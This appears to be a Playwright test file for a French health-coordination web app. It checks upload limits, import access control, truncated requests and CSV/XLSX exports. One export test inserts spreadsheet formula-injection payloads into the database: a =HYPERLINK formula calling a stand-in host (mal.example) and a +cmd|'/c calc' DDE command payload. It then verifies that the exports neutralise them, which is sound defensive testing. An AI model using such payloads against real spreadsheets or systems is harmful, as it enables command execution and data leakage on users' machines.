import { randomUUID } from 'node:crypto'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { connect } from 'node:net'
import path from 'node:path'
import type { APIRequestContext, APIResponse } from '@playwright/test'
import ExcelJS from 'exceljs'
import { demoFolder, demoRow, demoSql } from '#tests/helpers/demo-database'
import { type DemoPeople, demoPeople, people, type Person } from '#tests/helpers/demo-people'
import { expect, test } from '#tests/helpers/journey'

let who: DemoPeople

test.beforeAll(async () => { who = await demoPeople() })

const cookieOf = (person: Person) => ({ cookie: `next-auth.session-token=${who.cookies[person]}` })
const location = (answer: APIResponse) => `${answer.status()} ${answer.headers()['location'] ?? ''}`

test.describe('a file of contours', () => {
  const canary = `Canari-${randomUUID()}`
  const contours = (name: string, filler = '') => Buffer.from(JSON.stringify({ type: 'FeatureCollection', name: filler, features: [{ type: 'Feature', properties: { code: '59449', nom: name }, geometry: { type: 'Polygon', coordinates: [[[3.2, 50.4], [3.3, 50.4], [3.3, 50.5], [3.2, 50.4]]] } }] }))
  const send = (request: APIRequestContext, buffer: Buffer, person: Person = 'coordination', name = 'contours.geojson') =>
    request.post('/api/imports/contours', { multipart: { fichier: { name, mimeType: 'application/geo+json', buffer } }, headers: cookieOf(person), maxRedirects: 0 })

  test('leads to its preview, for the coordination alone @bureau', async ({ request }) => {
    expect(location(await send(request, contours('Orchies')))).toMatch(/^303 \/gestion\/territoire\/contours\/[0-9a-f-]{36}$/)
    const allowed: Person[] = []
    for (const person of people) if ((await send(request, contours(canary), person)).status() !== 404) allowed.push(person)
    expect(allowed).toEqual(['coordination'])
  })

  test('above 20 MB is refused with a sentence and leaves nothing @bureau', async ({ request, page }) => {
    const name = `${canary}-lourd`
    expect(location(await send(request, contours(name, 'x'.repeat(20_000_001))))).toBe('303 /gestion/territoire/contours?refus=file-too-large')
    expect(keptWith(name)).toEqual([])
    await page.context().addCookies([{ name: 'next-auth.session-token', value: who.cookies.coordination, url: process.env['E2E_BASE_URL'] ?? '' }])
    await page.goto('/gestion/territoire/contours?refus=file-too-large')
    await expect(page.getByRole('alert').filter({ hasText: '20 Mo' })).toBeVisible()
  })

  test('just under the limit is read @bureau', async ({ request }) => {
    expect(location(await send(request, contours('Orchies', 'x'.repeat(19_900_000))))).toMatch(/^303 \/gestion\/territoire\/contours\/[0-9a-f-]{36}$/)
  })

  for (const [what, buffer] of [['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 1, 2, 3])], ['a list', Buffer.from('Nom;Ville\nMARTIN;Orchies\n')], ['an empty file', Buffer.alloc(0)], ['other JSON', Buffer.from('{"a":1}')]] as const) {
    test(`${what} is refused and leads back with the reason @bureau`, async ({ request }) => {
      expect(location(await send(request, buffer))).toMatch(/^303 \/gestion\/territoire\/contours\?refus=[a-z-]+$/)
    })
  }

  test('cut off on its way leaves nothing @bureau', async ({ request }) => {
    const name = `${canary}-coupe`
    await cutOff('/api/imports/contours', contours(name, 'y'.repeat(3_000_000)), 'application/geo+json')
    // The server still answers, and the half that came is nowhere.
    expect((await request.get('/api/sante')).status()).toBe(200)
    expect(keptWith(name)).toEqual([])
  })

  function keptWith(text: string): string[] {
    const folder = path.join(demoFolder(), 'contours')
    return existsSync(folder) ? readdirSync(folder).filter((name) => readFileSync(path.join(folder, name), 'utf8').includes(text)) : []
  }
})

test.describe('the national extraction', () => {
  const lines = readFileSync(path.resolve(import.meta.dirname, '../fixtures/rpps/ps-libreacces-personne-activite.txt'))
  const address = (id: string, part: string) => `/api/imports/rpps?import=${id}&partie=${part}&nom=extraction.txt`
  const send = (request: APIRequestContext, id: string, part: string, data: Buffer, person: Person = 'coordination') =>
    request.post(address(id, part), { data, headers: { ...cookieOf(person), 'content-type': 'application/octet-stream' } })
  const trace = async (id: string) => ({ files: existsSync(path.join(demoFolder(), 'imports', id)), runs: (await demoSql(`SELECT 1 FROM import_run WHERE id = $1`, [id])).length })
  const nothing = { files: false, runs: 0 }

  test('is taken from the coordination alone; from anybody else nothing is kept @bureau', async ({ request }) => {
    for (const person of people.filter((one) => one !== 'coordination')) {
      const id = randomUUID()
      expect((await send(request, id, 'activites', lines, person)).status(), person).toBe(404)
      expect(await trace(id)).toEqual(nothing)
    }
    const id = randomUUID()
    expect((await request.post(address(id, 'activites'), { data: lines })).status()).toBe(401)
    expect(await trace(id)).toEqual(nothing)
  })

  test('is checked by its beginning, taken, read by the worker, and its file goes @bureau', async ({ request }) => {
    const id = randomUUID()
    expect((await send(request, id, 'verifier', lines.subarray(0, 16_000))).status()).toBe(200)
    const taken = await send(request, id, 'activites', lines)
    expect(await taken.json()).toEqual({ ok: true, location: `/gestion/imports/${id}` })
    await expect.poll(async () => (await demoRow<{ status: string }>(`SELECT status::text FROM import_run WHERE id = $1`, [id])).status, { timeout: 60_000 }).toBe('preview')
    await expect.poll(() => trace(id)).toEqual({ files: false, runs: 1 })
    await demoSql(`DELETE FROM import_run WHERE id = $1`, [id])
  })

  for (const [what, head] of [['a workbook', Buffer.from('PK\u0003\u0004 [Content_Types].xml xl/workbook.xml')], ['a web page', Buffer.from('<!doctype html><html></html>')], ['other columns', Buffer.from('Nom|Prénom\nDURAND|Anne\n')]] as const) {
    test(`${what} is refused by its beginning, in a sentence @bureau`, async ({ request }) => {
      const answer = await send(request, randomUUID(), 'verifier', head)
      expect(answer.status()).toBe(422)
      expect((await answer.json() as { error: string }).error).toMatch(/^(Ce fichier|Les colonnes)/)
    })
  }

  test('empty, or asked for with a malformed address, leaves nothing @bureau', async ({ request }) => {
    const id = randomUUID()
    expect((await send(request, id, 'activites', Buffer.alloc(0))).status()).toBeGreaterThanOrEqual(400)
    expect((await send(request, 'pas-un-id', 'activites', lines)).status()).toBe(400)
    expect((await send(request, id, 'autre', lines)).status()).toBe(400)
    expect(await trace(id)).toEqual(nothing)
  })

  test('cut off on its way leaves neither file nor import @bureau', async () => {
    const id = randomUUID()
    await cutOff(address(id, 'activites'), Buffer.concat([lines, lines, lines]), 'application/octet-stream')
    await expect.poll(() => filesOf(id)).toEqual([])
    expect((await trace(id)).runs).toBe(0)
  })

  function filesOf(id: string): string[] {
    const folder = path.join(demoFolder(), 'imports', id)
    return existsSync(folder) ? readdirSync(folder) : []
  }
})

test.describe('the exports', () => {
  const lists = { registre: 'registre', professionnels: 'professionnels', lieux: 'lieux', partenaires: 'partenaires', comptes: 'comptes', communes: 'communes', services: 'services' }

  test('are the coordination’s alone, each with its name and type, and each opening is noted @bureau', async ({ request }) => {
    for (const [list, name] of Object.entries(lists)) {
      const allowed: Person[] = []
      for (const person of people) if ((await request.get(`/api/exports/${list}`, { headers: cookieOf(person), maxRedirects: 0 })).status() !== 404) allowed.push(person)
      expect(allowed, list).toEqual(['coordination'])
      const signedOut = await request.get(`/api/exports/${list}?q=a`, { maxRedirects: 0 })
      expect(location(signedOut), list).toBe(`303 /connexion?retour=${encodeURIComponent(`/api/exports/${list}?q=a`)}`)

      const before = await accesses(list)
      const csv = await request.get(`/api/exports/${list}`, { headers: cookieOf('coordination') })
      expect(csv.headers()).toMatchObject({ 'content-type': 'text/csv; charset=utf-8', 'cache-control': 'no-store' })
      expect(csv.headers()['content-disposition']).toMatch(new RegExp(`^attachment; filename="${name}[a-z-]*-\\d{4}-\\d{2}-\\d{2}\\.csv"$`))
      expect((await csv.body()).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
      const xlsx = await request.get(`/api/exports/${list}?format=xlsx`, { headers: cookieOf('coordination') })
      expect(xlsx.headers()['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
      expect(xlsx.headers()['content-disposition']).toMatch(/\.xlsx"$/)
      const book = new ExcelJS.Workbook()
      await book.xlsx.load(new Uint8Array(await xlsx.body()).buffer)
      expect(book.worksheets[0]?.rowCount).toBeGreaterThan(1)
      expect(await accesses(list)).toBe(before + 2)
    }
    expect((await request.get('/api/exports/inconnue', { headers: cookieOf('coordination') })).status()).toBe(404)
  })

  test('give no cell that a spreadsheet would run @bureau', async ({ request }) => {
    const [personId, siteId, userId] = [randomUUID(), randomUUID(), randomUUID()]
    const nasty = { person: `=HYPERLINK("https://mal.example?${personId}")`, site: `@SUM(1)${siteId}`, account: `+cmd|'/c calc'!A0 ${userId}` }
    await demoSql(`INSERT INTO practitioner (id, first_name, last_name, profession_code, is_gp) VALUES ($1, '-2+3', $2, '60', false)`, [personId, nasty.person])
    await demoSql(`INSERT INTO site (id, name, kind, commune_code, lat, lon, geo_precision) SELECT $1, $2, 'other', code, lat, lon, 'commune' FROM commune LIMIT 1`, [siteId, nasty.site])
    await demoSql(`INSERT INTO app_user (id, name, email) VALUES ($1, $2, $3)`, [userId, nasty.account, `essai-${userId}@exemple.invalid`])
    try {
      for (const [list, text] of [['professionnels', nasty.person], ['lieux', nasty.site], ['comptes', nasty.account]] as const) {
        const csv = await (await request.get(`/api/exports/${list}`, { headers: cookieOf('coordination') })).text()
        expect(csv, list).toContain(`'${text.replaceAll('"', '""')}`)
        for (const cell of csv.split(/[;\r\n]+/)) expect(cell, list).not.toMatch(/^"?[=+@\t]|^"?-(?!$)/)
        const book = new ExcelJS.Workbook()
        await book.xlsx.load(new Uint8Array(await (await request.get(`/api/exports/${list}?format=xlsx`, { headers: cookieOf('coordination') })).body()).buffer)
        const cells = book.worksheets[0]?.getSheetValues().flat() ?? []
        expect(cells.filter((cell) => typeof cell === 'object' && cell !== null && 'formula' in cell), list).toEqual([])
        expect(cells.some((cell) => typeof cell === 'string' && cell.includes(text)), list).toBe(true)
      }
    } finally {
      await demoSql(`DELETE FROM practitioner WHERE id = $1`, [personId])
      await demoSql(`DELETE FROM site WHERE id = $1`, [siteId])
      await demoSql(`DELETE FROM app_user WHERE id = $1`, [userId])
    }
  })

  async function accesses(list: string): Promise<number> {
    return (await demoRow<{ count: number }>(`SELECT count(*)::int AS count FROM access_event WHERE subject_type = 'export' AND subject_id::text = $1 AND actor_id = (SELECT user_id FROM session WHERE session_token = $2)`, [list, who.cookies.coordination])).count
  }
})

/** Sends half of a body that was announced whole, then hangs up. */
async function cutOff(target: string, body: Buffer, type: string): Promise<void> {
  const site = new URL(process.env['E2E_BASE_URL'] ?? '')
  const socket = connect(Number(site.port), site.hostname)
  socket.on('error', () => undefined)
  await new Promise<void>((resolve) => { socket.once('connect', resolve) })
  socket.write(`POST ${target} HTTP/1.1\r\nHost: ${site.host}\r\nCookie: ${cookieOf('coordination').cookie}\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n`)
  await new Promise<void>((resolve) => { socket.write(body.subarray(0, Math.floor(body.length / 2)), () => { resolve() }) })
  const gone = new Promise<void>((resolve) => { socket.once('close', () => { resolve() }) })
  socket.destroy()
  await gone
}
